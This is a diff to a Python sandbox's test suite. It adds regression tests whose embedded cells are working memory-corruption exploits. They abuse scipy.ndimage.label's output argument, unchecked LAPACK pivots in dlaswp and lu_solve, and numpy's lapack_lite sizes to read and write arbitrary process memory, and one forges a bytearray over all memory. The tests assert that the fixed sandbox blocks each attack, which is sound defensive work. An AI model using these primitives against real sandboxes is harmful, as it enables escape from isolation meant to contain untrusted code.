@@ -3,6 +3,7 @@
 the real builtins are one pointer away. Runs in a child process (a mistake here segfaults)."""
 from __future__ import annotations
 
+import json
 import subprocess
 import typing
 
@@ -1231,3 +1232,149 @@ def test_numpy_memory_routes_are_refused(cell):
     result = run_reporting("import numpy as np\n" + cell)
     assert "crashed" not in result, result
     assert result["status"] == "error", result
+
+
+# --- N10-11: scipy.ndimage.label writes its output whether or not it is writeable ----------------------------------
+# Review 10 (level none, 2026-11-26, against 0abcd2d), finding N10-11: fixed at e282dcb: its strict xfail is now a
+# plain test (same attack, same assertions).
+# The index-array sink hands out scipy's integer arrays as read-only views (Gates._index_arrays_read_only) and keeps
+# them read-only (N9-1: setflags). numpy's ufuncs, copyto/place/putmask/put_along_axis, the random shufflers and 19
+# other ndimage functions refuse a read-only output; ndimage.label(input, output=A.indices) does not (its C code
+# writes the labels into whatever array it is given). Labels are 1..k in input order, so the cell chooses each
+# index: A @ x then reads x's word k (a 20,000-row matrix reads 160 KB past an array in one product) and
+# A.toarray(out=) adds a chosen double at word k. Adding to a neighbouring bytes object's header (denormal + denormal
+# is exact integer addition; + 2.0 turns its size into 2**62) makes it a bytearray over all memory.
+
+NDIMAGE_LABEL = '''
+import numpy as np
+from scipy import ndimage, sparse
+bb = np.lib.array_utils.byte_bounds
+def labelled(k, value=1.0):
+    """a csr_array of k rows whose row i holds (column i + 1, value) and (column 0, 0.0): the column indices are
+    written by ndimage.label (labels 1..k, zeros between) into the sandbox's read-only view of its indices"""
+    L = 2 * k
+    data = np.zeros(L)
+    data[::2] = value
+    A = sparse.csr_array((data, np.zeros(L, dtype=np.int64), np.arange(0, L + 1, 2)), shape=(k, 8000))
+    inp = np.zeros(L, dtype=np.int64)
+    inp[::2] = 1
+    ndimage.label(inp, output=A.indices)
+    return A
+def as_float(word):
+    """the double whose addition adds `word` to a word holding a pointer (both denormals: exact integer sums)"""
+    value = float(np.array([abs(word)], dtype=np.int64).view(np.float64)[0])
+    return value if word >= 0 else -value
+out = np.zeros(8000)                          # 64 KB (malloc, below the mmap threshold: the heap's top)
+spray = [bytes(60000) for i in range(8)]       # bytes objects laid after it
+ours = {id(b): b for b in spray}
+K = 20000
+words = (labelled(K) @ out).view(np.int64)    # words[i] is out's word i + 1: 96 KB past its 64 KB read
+hdr = None
+for i in np.nonzero(words == id(bytes))[0]:
+    addr = bb(out)[0] + 8 * int(i)                    # the object whose ob_type is word i + 1
+    if addr in ours:
+        hdr = int(i)                                  # the word of its ob_refcnt
+        break
+ba = None
+if hdr is not None:
+    t = hdr + 1                                       # ob_type += id(bytearray) - id(bytes); ob_size += 2.0 (-> 2**62)
+    for word, value in ((t, as_float(id(bytearray) - id(bytes))), (t + 1, 2.0)):
+        L = 2 * word - 1
+        data = np.zeros(L)
+        data[-1] = value
+        A = sparse.csr_array((data, np.zeros(L, dtype=np.int64), np.array([0, L])), shape=(1, 8000))
+        inp = np.zeros(L, dtype=np.int64)
+        inp[::2] = 1
+        ndimage.label(inp, output=A.indices)          # the last entry's column is `word`
+        A.toarray(out=out.reshape(1, 8000))             # out[word] += value (and += 0.0 at the words before)
+    for b in spray:
+        if type(b) is bytearray:
+            ba = b
+class Obj:
+    pass
+o = Obj()
+typeptr = ba is not None and int.from_bytes(ba[id(o) + 8:id(o) + 16], 'little') == id(Obj)
+victim = b'AAAAAAAA-immutable'
+if ba is not None:
+    ba[id(victim) + 32:id(victim) + 40] = b'PWNED!!!'
+written = victim == b'PWNED!!!-immutable'
+'''
+
+
+def test_ndimage_label_does_not_write_read_only_index_arrays():
+    result = run_reporting(NDIMAGE_LABEL, ns=("typeptr", "written"), timeout=300)
+    assert "crashed" not in result, result
+    assert not result["typeptr"] and not result["written"], json.dumps(result)
+
+
+# --- N10-12: LAPACK row interchanges take their pivots unchecked (scipy.linalg.lapack, lu_solve) --------------------
+# Review 10 (level none, 2026-11-26, against 0abcd2d), finding N10-12: fixed at e282dcb: its strict xfail is now a
+# plain test (same attack, same assertions).
+# scipy.linalg.lapack hands out every raw LAPACK wrapper; ?laswp(a, piv) swaps row i of `a` with row piv[i] and
+# nothing checks piv against a's rows. With overwrite_a=1 and a Fortran-contiguous 1x1 view of a cell array, one
+# call swaps a[0, 0] with the 8 bytes at a + 8 * piv[0] (int32: +-16 GB, which reaches pymalloc's arenas from a
+# memory-mapped array): read = swap twice, write = put the word in a[0, 0] and swap once. The high-level
+# scipy.linalg.lu_solve((lu, piv), b) passes a cell's piv to ?getrs the same way: piv = [5] returns a heap word,
+# piv = [10**6] segfaults. (f2py also ignores the read-only flag: blas.dscal(2.0, ro) doubles a read-only array.)
+# numpy's own raw wrappers, numpy.linalg.lapack_lite, check only the arrays' types: sizes and workspace lengths are
+# the caller's word.
+
+LASWP = '''
+import numpy as np
+from scipy.linalg import lapack
+bb = np.lib.array_utils.byte_bounds
+big = np.zeros(100000)                      # 800 KB: its own memory map, near pymalloc's arenas
+a = big[:1].reshape((1, 1), order='F')      # a Fortran-contiguous view that LAPACK works on in place
+base = bb(a)[0]
+def swap(addr):
+    """dlaswp swaps row 0 of `a` with "row" piv[0]: the word at addr, whatever it is (piv is never checked)"""
+    lapack.dlaswp(a, np.array([(addr - base) // 8], dtype=np.int32), overwrite_a=1)
+def peek(addr):
+    swap(addr)
+    word = int(a.view(np.int64)[0, 0])
+    swap(addr)                              # and back
+    return word
+def poke(addr, word):
+    a.view(np.int64)[0, 0] = word
+    swap(addr)
+class Obj:
+    pass
+o = Obj()
+typeptr = peek(id(o) + 8) == id(Obj)
+victim = b'AAAAAAAA-immutable'
+poke(id(victim) + 32, int.from_bytes(b'PWNED!!!', 'little'))
+written = victim == b'PWNED!!!-immutable'
+'''
+
+LU_SOLVE = '''
+import numpy as np
+from scipy import linalg
+r = linalg.lu_solve((np.eye(1), np.array([5])), np.ones(1))
+read = bool(r[0] != 1.0)          # 1.0 is the only honest answer: b's one element swapped with a heap word
+'''
+
+
+def test_laswp_pivots_reach_no_memory():
+    result = run_reporting(LASWP, ns=("typeptr", "written"), timeout=120)
+    assert "crashed" not in result, result
+    assert not result["typeptr"] and not result["written"], json.dumps(result)
+
+
+def test_lu_solve_pivots_read_no_memory():
+    result = run_reporting(LU_SOLVE, ns=("read",), timeout=120)
+    assert "crashed" not in result, result
+    assert not result["read"], json.dumps(result)
+
+
+LAPACK_LITE = '''
+import numpy as np
+import numpy.linalg.lapack_lite as ll
+# m, n, lda and lwork are the caller's word: LAPACK factors a 300x300 matrix into a 1-element array and uses 19,200
+# words of a 1-element workspace (lapack_lite checks the arrays' types only)
+r = ll.dgeqrf(300, 300, np.zeros(1), 300, np.zeros(1), np.zeros(1), 300 * 64, 0)
+'''
+
+
+def test_lapack_lite_sizes_write_no_memory():
+    result = run_reporting(LAPACK_LITE, timeout=120)
+    assert "crashed" not in result, result
